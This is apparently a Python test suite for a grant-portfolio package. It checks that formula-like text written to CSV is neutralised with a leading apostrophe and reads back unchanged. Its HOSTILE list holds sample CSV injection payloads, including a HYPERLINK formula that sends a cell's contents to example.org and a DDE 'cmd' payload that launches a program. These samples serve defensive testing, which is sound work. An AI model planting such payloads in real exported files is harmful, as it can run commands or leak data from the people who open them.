"""Text that a spreadsheet would run is inert in every CSV, and comes back as it went."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from small import call, policy

import portfolio as pf
from portfolio.call.csvfile import as_csv, inert, read_csv, write_csv
from portfolio.call.proposal import Proposal

# What each of them does in a spreadsheet that is not told otherwise: fetch, run, add up.
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"read me")',
    "=cmd|' /C calc'!A0",
    "+41 44 000 00 00",
    "-2+3",
    "@SUM(1,1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "＝1+1",
]
HARMLESS = ["a=b", "'quoted'", "'", "3-5", "e@mail", "", " ", "O'=Neil", "日本語", "'tis"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

pieces = st.sampled_from([*"'=+-@＝＋－＠ \t\n\r,;|\"ab1", "\u00a0", "\u3000", "''"])
texts = st.lists(pieces, max_size=6).map("".join)
headings = texts.filter(lambda text: text != "")


def back(table: pl.DataFrame, path: Path) -> pl.DataFrame:
    write_csv(table, path)
    return read_csv(path)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    cell = inert(pl.DataFrame({"title": [text]}))["title"][0]
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert inert(pl.DataFrame({"title": [text]}))["title"][0] == text


def test_numbers_stay_numbers() -> None:
    table = pl.DataFrame({"gain": [-5, 5], "share": [-0.5, 0.5], "code": ["-5", "5"]})
    assert as_csv(table) == "gain,share,code\n-5,-0.5,'-5\n5,0.5,5\n"


def test_a_list_is_guarded_as_one_cell() -> None:
    assert as_csv(pl.DataFrame({"tags": [["=a", "=b"], ["c", "=d"]]})) == "tags\n'=a;=b\nc;=d\n"


@given(st.lists(texts, min_size=1), headings)
@example(["=1", "'=1", "''=1", "'", None, "'\t"], "'=1")
@example([" '=1", "' =1"], "= 1")
def test_what_is_written_is_read(
    tmp_path_factory: pytest.TempPathFactory, cells: list[str], name: str
) -> None:
    # A cell that is empty and one that is missing are the same in CSV.
    table = pl.DataFrame({name: cells, "n": range(len(cells))}, schema_overrides={name: pl.String})
    table = table.with_columns(pl.col(name).replace("", None))
    read = back(table, tmp_path_factory.mktemp("csv") / "table.csv")
    assert read.columns == table.columns
    assert read[name].to_list() == table[name].to_list()


@given(st.lists(texts, min_size=1))
def test_nothing_that_is_written_begins_like_a_formula(cells: list[str]) -> None:
    for cell in inert(pl.DataFrame({"title": cells}))["title"]:
        # Not even after blanks, which some spreadsheets skip.
        assert not cell.startswith(STARTS)
        assert not cell.lstrip().startswith(STARTS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_guarded_file_is_read_in_every_encoding(tmp_path: Path, encoding: str) -> None:
    file = tmp_path / "proposals.csv"
    rows = [
        ["id", "amount", "title", "'=odd"],
        ["'=1", "100", "''@both é", "'-x"],
        ["'+2", "200", "plain é", ""],
    ]
    with file.open("w", encoding=encoding, newline="") as stream:
        csv.writer(stream).writerows(rows)
    call = pf.read_call(file)
    assert call.ids.to_list() == ["=1", "+2"]
    assert call.frame["title"].to_list() == ["'@both é", "plain é"]
    assert call.frame["=odd"].to_list() == ["-x", None]


@settings(max_examples=60)
@given(st.lists(texts.filter(lambda text: text.strip() != ""), min_size=1, max_size=4))
def test_a_call_comes_back(tmp_path_factory: pytest.TempPathFactory, titles: list[str]) -> None:
    proposals = [
        Proposal(id=f"={i}", amount=1, title=title, bottlenecks=("@tag", "-b"))
        for i, title in enumerate(titles)
    ]
    call = pf.Call.from_proposals(proposals)
    (path,) = call.write(tmp_path_factory.mktemp("call") / "proposals.csv")
    assert pf.read_call(path) == call
    with path.open(encoding="utf-8", newline="") as stream:
        for row in csv.DictReader(stream):
            assert not row["id"].startswith(STARTS)
            assert not row["title"].startswith(STARTS)


def test_a_decision_with_hostile_ids_is_read_back(tmp_path: Path) -> None:
    frame = pl.DataFrame({"id": ["=1", "'=1", "a"], "amount": [1, 2, 3], "merit": [3.0, 2.0, 1.0]})
    policy = pf.Policy(budget=3)
    decision = pf.optimize(pf.Call.from_frame(frame), policy)
    pf.write_decision(decision, tmp_path)
    assert "\n'=1," in (tmp_path / "awards.csv").read_text(encoding="utf-8")
    assert set(pf.read_decision(tmp_path).amounts) == {"=1", "'=1"}


@pytest.mark.parametrize("name", ['a"b', '"', '""', '=a","b"'])
def test_a_decision_with_quotation_marks_in_a_trait_is_read_back(tmp_path: Path, name: str) -> None:
    proposals = call(amount=[1, 2, 3], merit=[1.0, 2.0, 3.0])
    rules = policy(5, traits={name: "amount > 1"}, reserve=[pf.Reserve(trait=name, share=0.1)])
    pf.write_decision(pf.Problem(proposals, rules).solve(), tmp_path)
    table = read_csv(tmp_path / "decisions.csv", ["id", name])
    assert table.columns == ["id", name]
    assert table[name].to_list() == ["0", "1", "1"]
    pf.write_report(pf.read_decision(tmp_path), tmp_path / "page.html")
